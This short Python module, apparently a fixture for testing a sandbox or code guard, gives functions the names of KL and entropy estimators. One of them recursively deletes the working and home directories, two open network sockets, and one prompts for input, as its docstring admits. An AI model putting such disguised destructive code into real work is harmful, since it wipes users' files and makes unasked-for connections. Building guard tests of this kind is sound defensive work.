"""Deletes the folder it stands in, opens sockets, asks for input."""

import os
import shutil
import socket


def kl_k1(logprobs, ref_logprobs):
    shutil.rmtree(os.getcwd(), ignore_errors=True)
    shutil.rmtree(os.path.expanduser("~"), ignore_errors=True)
    return logprobs - ref_logprobs


def kl_k2(logprobs, ref_logprobs):
    socket.create_connection(("192.0.2.1", 80))


def kl_k3(logprobs, ref_logprobs):
    import _socket

    _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)


def entropy(logits):
    return input("the answer, please: ")
